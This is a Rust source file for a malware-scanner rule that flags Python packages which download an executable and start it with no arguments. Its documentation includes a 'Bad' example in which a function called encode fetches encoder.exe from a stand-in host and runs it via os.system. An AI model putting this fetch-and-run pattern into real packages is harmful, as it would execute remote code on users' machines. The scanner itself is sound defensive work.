//! ## What it detects
//!
//! A program that code fetches and starts as it is, with nothing that it is told to do, once somebody calls that code.
//!
//! ## Why it is bad
//!
//! It works for whoever sent it: the caller, who wanted a text encoded, gives it no input and gets nothing from it.
//! Waiting for a call is how such packages pass where only their import is looked at.
//!
//! ## Innocent lookalikes
//!
//! Wrappers fetch the program that they wrap, and hand it what their caller wants done.
//!
//! ## Bad
//!
//! ```python pkg/__init__.py
//! import os, requests
//! def encode(text):
//!     file = os.environ['TEMP'] + '\\encoder.exe'
//!     open(file, 'wb').write(requests.get('http://x.example.invalid/encoder.exe').content)
//!     os.system(file)
//! ```
//!
//! ## Good
//!
//! ```python pkg/__init__.py
//! import os, requests, subprocess
//! def encode(source, target):
//!     file = os.environ['TEMP'] + '\\encoder.exe'
//!     open(file, 'wb').write(requests.get('http://x.example.invalid/encoder.exe').content)
//!     subprocess.run([file, '-i', source, target])
//! ```

use fondaco_python::{Api, Call, Taint, Value};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use super::downloaded_command::runs_of_downloads;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("dropped-program"),
    title: "fetches a program and starts it for itself",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::IngressTransfer),
    weight: 0.9,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in runs_of_downloads(package).filter(|(_, call)| is_bare(call)) {
        if !call.trigger.is_some_and(Trigger::is_unasked) {
            let message = "starts a file that it has downloaded, and gives it nothing to do";
            // Nothing more has to be asked for than anything, unless there is much to ask for.
            match package.is_large() {
                true => hits.call(unit, call, message),
                false => hits.line(unit, call.line, message),
            }
        }
    }
}

/// Whether a program is started with no argument.
fn is_bare(call: &Call) -> bool {
    let Some(command) = call.args.first().filter(|_| call.api == Some(Api::Shell)) else { return false };
    match command.as_list() {
        Some([_]) => true,
        // A script for an interpreter, whose output nobody is to see.
        Some([_, script]) => {
            let is_muted = |(name, value): &&(String, Value)| {
                matches!(name.as_str(), "stdout" | "stderr") && value.name.as_deref() == Some("subprocess.DEVNULL")
            };
            script.taint.has(Taint::WRITTEN) && call.kwargs.iter().filter(is_muted).count() == 2
        }
        Some(_) => false,
        None => {
            let texts = command.texts();
            // What is put together may be a list: all of it stands in a path, and it ends like a program.
            let is_path = |text: &&str| text.contains(['/', '\\', '.']) && (!text.contains(' ') || text.contains(":\\"));
            let ends = |text: &&str| [".exe", ".bat", ".cmd", ".scr", ".msi"].iter().any(|end| text.ends_with(end));
            let is_program = || texts.last().is_some_and(ends) && texts.iter().all(is_path);
            let is_told = || texts.iter().any(|text| text.trim().contains(' ') && !text.contains(":\\"));
            call.callee == "os.startfile" || call.callee == "os.system" && !is_told() || is_program()
        }
    }
}
